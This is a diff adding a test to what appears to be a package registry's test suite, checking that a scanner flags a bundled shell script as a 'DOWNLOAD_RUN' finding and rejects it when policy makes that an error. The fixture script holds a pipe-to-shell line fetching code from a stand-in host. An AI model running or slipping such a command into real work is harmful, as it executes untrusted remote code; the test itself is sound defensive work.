@@ -256,6 +256,18 @@ describe.each(ENGINES)('register on %s', (engine) => {
     await expectNothingStored();
   });
 
+  it('refuses what its policy makes an error of, and tells of the rest', async () => {
+    const script = { files: { 'x.sh': '#!/bin/sh\ncurl https://x.example/i.sh | sh\n' } };
+    const told = await t.register(pack('alpha', '1.0.0', script));
+    expect(told.findings.map((f) => [f.severity, f.code, f.line])).toEqual([['warning', 'DOWNLOAD_RUN', 2]]);
+    t.hub.config.findings = { DOWNLOAD_RUN: 'error' };
+    await expect(t.register(pack('alpha', '1.1.0', script))).rejects.toMatchObject({
+      code: 'COMPONENT_INVALID',
+      details: { findings: [expect.objectContaining({ code: 'DOWNLOAD_RUN', severity: 'error', file: 'x.sh' })] },
+    });
+    await t.register(pack('alpha', '1.2.0'));
+  });
+
   it('refuses a revoked key, whichever token sends it', async () => {
     await t.register(pack('alpha', '1.0.0'));
     await t.store.transact((tx) => tx.updateTable('publisher_keys').set({ revoked_at: '2026-01-01' }).execute());
